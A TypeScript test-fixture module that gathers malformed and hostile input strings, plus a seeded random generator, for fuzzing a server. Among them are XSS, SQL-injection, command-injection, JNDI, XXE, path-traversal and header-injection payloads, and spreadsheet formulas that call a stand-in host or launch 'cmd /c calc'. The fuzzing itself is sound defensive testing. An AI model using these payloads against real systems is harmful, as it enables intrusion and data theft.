/**
 * Texts that break software, of the kinds that public lists of such texts are made of, in our own words. Every one
 * is well-formed text without NUL: a server may refuse it by a rule, but never fail on it.
 */
const KINDS: Record<string, string[]> = {
  empty: ['', ' ', '\t', '\n', '\r\n', '　', '\u00a0', '\u200b'],
  reserved: [
    'undefined',
    'null',
    'NULL',
    'nil',
    'None',
    'true',
    'false',
    'NaN',
    'Infinity',
    '-Infinity',
    '[object Object]',
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'then',
    '\\',
    '\\\\',
    'undef',
    '(null)',
  ],
  numbers: [
    '0',
    '-0',
    '1',
    '-1',
    '+1',
    '1.0',
    '1.5',
    '1e2',
    '1e309',
    '-1e309',
    '0x10',
    '0b1',
    '0o7',
    '007',
    '1_000',
    '1,000',
    '2147483647',
    '2147483648',
    '-2147483649',
    '9007199254740991',
    '9007199254740992',
    '-9007199254740993',
    '9223372036854775807',
    '9223372036854775808',
    '99999999999999999999999999',
    '.',
    '..',
    '1/0',
    '０１２',
    '壹',
    '٣',
  ],
  punctuation: [
    '!@#$%^&*()',
    '`~',
    "'",
    '"',
    "''",
    '""',
    '"\'"',
    '‘引’“号”',
    '<>?:{}|_+',
    ',./;[]-=',
    '\u3000—…、。',
  ],
  control: [
    'a\u0001b',
    'a\bb',
    'a\u001bb',
    'a\u007fb',
    'a\u0085b',
    'a\u009bb',
    'line\nbreak',
    'line\rbreak',
    'tab\tstop',
    '\v\f',
  ],
  terminal: ['\u001b[31m红\u001b[0m', '\u001b]0;title\u0007', '\u001b[2J'],
  markers: ['\ufeff开头', '中\ufffe间', '\uffff', '\ufffd', '\u2028', '\u2029', '\u00ad软', '\u2060'],
  chinese: ['云州仲裁委员会', '𠀀𠮷𡈽', '㐀䶵', '繁體與简体', '仲　裁', '〇', '㈱', '凃龘靐齉'],
  scripts: [
    'Ω≈ç√∫˜µ',
    'ÅÍÎÏ˝ÓÔ',
    'ЁЂЃЄ',
    'مرحبا بالعالم',
    'שלום',
    'สวัสดี',
    'हिन्दी',
    '안녕',
    'ᚠᛇᚻ',
    'ⁿ₁²³',
    '١٢٣',
  ],
  direction: ['\u202e倒着写\u202c', '\u2067rtl\u2069', '\u200f', 'a\u061cb'],
  combining: ['e\u0301', 'é', 'Z\u0351\u036b\u0343\u036aa\u0302l\u0304g\u035eo', 'ﷺ', '\u0300'.repeat(40)],
  emoji: ['😀', '👩‍👩‍👧‍👦', '🇨🇳', '👍🏿', '❤️', '1️⃣', '🏴󠁧󠁢󠁥󠁮󠁧󠁿'],
  casing: ['İ', 'ß', 'ŉ', 'ǰ', 'ΐ', 'ﬃ', 'Ⱥ'],
  html: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    'javascript:alert(1)',
    '&lt;b&gt;',
    '&#x3c;script&#x3e;',
    '<!--',
    ']]>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '</textarea><b>',
  ],
  sql: [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '1; SELECT * FROM users',
    '" OR ""="',
    "1' UNION SELECT 1,2,3--",
    "admin'/*",
    '0 OR 1=1',
    "') OR ('a'='a",
    '`users`',
    "x' AND sleep(5)--",
    'id desc; delete from menus',
    "\\'; SELECT load_extension('x'); --",
  ],
  code: [
    '\u0024{7*7}',
    '{{7*7}}',
    '#{7*7}',
    '<%= 7*7 %>',
    '$(id)',
    '`id`',
    '| id',
    '; id',
    '&& id',
    '%0a id',
    '$HOME',
    '%PATH%',
    'require("fs")',
    '{"$ne":null}',
    '*)(uid=*',
    '%s%s%n',
    '%d',
    '%*.*s',
    '\u0024{jndi:ldap://h.invalid/a}',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '/etc/passwd',
    'C:\\',
    'file:///etc/passwd',
    '//h.invalid/a',
    '.',
    '..',
  ],
  devices: ['CON', 'PRN', 'AUX', 'NUL', 'CLOCK$', 'A:', 'COM1', 'LPT1', 'con.txt'],
  headers: ['a\r\nSet-Cookie: a=b', 'a%0d%0aX: y', 'Host: h.invalid'],
  long: [
    '长'.repeat(100),
    '长'.repeat(101),
    'a'.repeat(256),
    'x'.repeat(5_000),
    '😀'.repeat(300),
    ' '.repeat(1_000),
  ],
}

export const HOSTILE_TEXTS: readonly string[] = Object.values(KINDS).flat()

/** Texts that SQLite and Kysely might take for SQL. */
export const SQL_TEXTS: readonly string[] = KINDS.sql ?? []

/** Characters that mean something in LIKE, in patterns and in escapes. */
export const WILDCARD_TEXTS: readonly string[] = [
  '%',
  '_',
  '\\',
  '%%',
  '__',
  '\\%',
  '\\_',
  '%_%',
  '*',
  '?',
  '[a-z]',
  '100%',
  'a_b',
  '\\\\',
  "%' escape '\\",
]

/** Sort parameters that name no allowed column. */
export const SORT_VALUES: readonly string[] = [
  'passwordHash',
  'password_hash',
  'ID',
  'id ',
  ' id',
  'id,name',
  'id desc',
  'id;',
  'id--',
  '1',
  '(select 1)',
  '"id"',
  '`id`',
  'users.id',
  'rowid',
  'random()',
  'case when 1 then id end',
  'createTime; drop table users',
  '__proto__',
  'constructor',
  'toString',
  "id' or '1'='1",
  '排序',
  'null',
]

/** Texts a spreadsheet would calculate if they were not text. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=SUM(A1:A9)',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=cmd|"/c calc"!A0',
  '="a"&"b"',
  '=HYPERLINK("http://h.invalid","按此")',
  '=IMPORTXML("http://h.invalid","//a")',
  '＝1+1',
  "'=1+1",
  '=1+1\n',
  ' =1+1',
  '=DDE("cmd";"/c calc";"a")',
  '-2+3+cmd|" /C calc"!A0',
  '=WEBSERVICE("http://h.invalid")',
  '%0a=1',
  ';=1+1',
  '"=1+1"',
]

/** File names a browser or a caller may send; none of them is a path. */
export const FILE_NAMES: readonly string[] = [
  '仲裁申请书.pdf',
  '申请 书 (1).docx',
  'a.b.c.d',
  '.htaccess',
  '..pdf',
  'no-extension',
  '空　格.txt',
  'CON',
  'nul.txt',
  'COM1.pdf',
  'a:b.txt',
  'a*b?.txt',
  '<b>.html',
  '"quoted".txt',
  "it's.txt",
  'a;b=c.txt',
  '100%.txt',
  '%2e%2e.txt',
  '%00.png',
  'a,b.txt',
  '😀.png',
  '👩‍👩‍👧.png',
  '\u202egnp.exe',
  'e\u0301.txt',
  'ＡＢＣ.txt',
  '$(id).sh',
  '`id`.txt',
  '-rf',
  '~',
  'a.php.png',
  'a.svg',
  'a.HTML',
  '名'.repeat(254),
  '名'.repeat(300),
  `${'a'.repeat(254)}😀`,
  `${'n'.repeat(250)}.pdf`,
  'tab\there.txt',
  'a\u007fb.txt',
  'esc\u001b[31m.txt',
  "filename*=UTF-8''x.txt",
  'a&b=c#d.txt',
  '{}.json',
  'in\ufeffside.txt',
]

/** Path traversals, as an address might contain them. */
export const TRAVERSALS: readonly string[] = [
  '../x',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/etc/passwd',
  '%252e%252e%252fetc%252fpasswd',
  '..%5c..%5cboot.ini',
  '%2e%2e%5cboot.ini',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  '//etc/passwd',
  'a/..//../x',
  './x',
  'C:%5cboot.ini',
  'C:/boot.ini',
  '%00',
  'x%00.png',
  '%c0%ae%c0%ae/x',
  '%e0%80%ae/x',
  '..;/x',
  '.',
  '..',
  '%',
  '%zz',
  '%ff',
  '*',
  '%25',
  'package.json',
  '..%00/x',
  '%u002e%u002e/x',
  'a%0d%0aX-Injected:%201',
]

export type Random = () => number

/** A stream of numbers in [0, 1) that is the same for the same seed (mulberry32). */
export function seededRandom(seed: number): Random {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

export const below = (random: Random, end: number) => Math.floor(random() * end)

export function pick<T>(random: Random, values: readonly T[]): T {
  const value = values[below(random, values.length)]
  if (value === undefined) throw new Error('nothing to pick from')
  return value
}

const NUMBERS = [
  0,
  -0,
  1,
  -1,
  2,
  10,
  0.5,
  -1.5,
  1e21,
  1e-7,
  1e308,
  5e-324,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53,
  -(2 ** 53),
  8.64e15,
  8.64e15 + 1,
  1_700_000_000_000,
]

/** Texts that no database can store: NUL and lone surrogates. */
const BROKEN_TEXTS = ['a\0b', '\0', '\ud800', '\udc00', '😀'.slice(0, 1), `x${'😀'.slice(1)}`]

/** Any text, broken ones and random characters among them. */
export function anyText(random: Random): string {
  const draw = random()
  if (draw < 0.6) return pick(random, HOSTILE_TEXTS)
  if (draw < 0.7) return pick(random, BROKEN_TEXTS)
  if (draw < 0.85) return pick(random, HOSTILE_TEXTS) + pick(random, HOSTILE_TEXTS)
  return Array.from({ length: below(random, 20) }, () => String.fromCharCode(below(random, 65_536))).join('')
}

/** Any JSON value, up to a few levels deep. */
export function anyValue(random: Random, depth = 0): unknown {
  const draw = random()
  if (draw < 0.4) return anyText(random)
  if (draw < 0.6) return pick(random, NUMBERS)
  if (draw < 0.65) return null
  if (draw < 0.75) return random() < 0.5
  if (depth > 3) return []
  const items = Array.from({ length: below(random, 4) }, () => anyValue(random, depth + 1))
  if (draw < 0.87) return items
  // From entries: an assignment to __proto__ would set the prototype instead of a property.
  return Object.fromEntries(items.map(item => [anyText(random), item]))
}
